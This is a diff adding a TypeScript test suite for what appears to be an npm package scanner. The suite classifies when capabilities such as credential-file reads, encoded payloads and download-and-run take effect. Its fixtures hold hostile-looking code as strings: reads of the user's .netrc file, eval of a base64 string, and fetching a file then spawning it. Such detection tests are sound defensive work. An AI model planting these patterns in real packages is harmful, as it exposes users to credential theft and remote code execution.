@@ -1,0 +1,72 @@
+import { capabilitiesOfNpm } from '../across/npm-delta.ts';
+
+const reachOf = async (after: Readonly<Record<string, string>>, kind: string): Promise<string | undefined> => {
+  const found = await capabilitiesOfNpm(after, { 'index.js': 'module.exports = {};\n' });
+  return found.find((one) => one.kind === kind)?.reach;
+};
+
+const netrc =
+  "const { readFileSync } = require('fs');\nconst file = require('path').join(require('os').homedir(), '.netrc');\n";
+const index = "module.exports = { ...require('./netrc') };\n";
+
+describe('when a capability takes effect', () => {
+  it('waits for a call where only an exported function reads the file', async () => {
+    const reads = `${netrc}exports.read = () => readFileSync(file, 'utf8');\n`;
+    expect(await reachOf({ 'index.js': index, 'netrc.js': reads }, 'credential-path')).toBe('call');
+  });
+
+  it('does not where the module reads it itself, or the entry point calls the function', async () => {
+    const reads = `${netrc}exports.text = readFileSync(file, 'utf8');\n`;
+    expect(await reachOf({ 'index.js': index, 'netrc.js': reads }, 'credential-path')).toBe('import');
+    const read = `${netrc}exports.read = () => readFileSync(file, 'utf8');\n`;
+    const calls = "const { read } = require('./netrc');\nread();\n";
+    expect(await reachOf({ 'index.js': calls, 'netrc.js': read }, 'credential-path')).toBe('import');
+  });
+
+  it('is not misled by a first place that nobody calls', async () => {
+    const both = `${netrc}exports.read = () => readFileSync(file, 'utf8');\nreadFileSync(require('os').homedir() + '/.netrc');\n`;
+    expect(await reachOf({ 'index.js': index, 'netrc.js': both }, 'credential-path')).toBe('import');
+  });
+
+  it('counts what a command calls in other files as asked for, and what stands in the command as running', async () => {
+    const manifest = JSON.stringify({ name: 'thing', version: '1.0.1', main: 'index.js', bin: 'bin.js' });
+    const lib = `${netrc}exports.read = () => readFileSync(file, 'utf8');\n`;
+    const files = { 'package.json': manifest, 'index.js': 'module.exports = {};\n' };
+    const bin = "require('./lib').read(process.argv);\n";
+    expect(await reachOf({ ...files, 'bin.js': bin, 'lib.js': lib }, 'credential-path')).toBe('call');
+    expect(await reachOf({ ...files, 'bin.js': `${netrc}readFileSync(file);\n` }, 'credential-path')).toBe('import');
+  });
+
+  it('stays where a file that loads it cannot be read as a tree', async () => {
+    const read = `${netrc}exports.read = () => readFileSync(file, 'utf8');\n`;
+    const broken = "module.exports = require('./netrc'); with (module) { exports.read; }\n";
+    expect(await reachOf({ 'index.js': broken, 'netrc.js': read }, 'credential-path')).toBe('import');
+  });
+
+  it('says nothing else of what is hidden: that nobody asks for', async () => {
+    const hidden =
+      "exports.run = () => eval(Buffer.from('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik7', 'base64').toString());\n";
+    expect(await reachOf({ 'index.js': hidden }, 'encoded-payload')).toBe('import');
+  });
+});
+
+describe('what is downloaded beside what is run', () => {
+  const fetches = "const { spawnSync } = require('child_process');\nconst fs = require('fs');\n";
+  const get = "fetch('https://files.example.com/a').then(async (r) => fs.writeFileSync('a.node', await r.text()));\n";
+
+  it('is not run by a builder or a package manager', async () => {
+    expect(
+      await reachOf({ 'index.js': `${fetches}${get}spawnSync('node-gyp', ['rebuild']);\n` }, 'download-and-run'),
+    ).toBe(undefined);
+    const chosen = "const tool = process.env.TOOL_NAME || 'npm';\nspawnSync(tool, ['install']);\n";
+    expect(await reachOf({ 'index.js': `${fetches}${get}${chosen}` }, 'download-and-run')).toBe(undefined);
+  });
+
+  it('is by any other program, also beside a tool', async () => {
+    expect(await reachOf({ 'index.js': `${fetches}${get}spawnSync('./a.node');\n` }, 'download-and-run')).toBe(
+      'import',
+    );
+    const both = "spawnSync('npm', ['install']);\nspawnSync('sh', ['a.node']);\n";
+    expect(await reachOf({ 'index.js': `${fetches}${get}${both}` }, 'download-and-run')).toBe('import');
+  });
+});
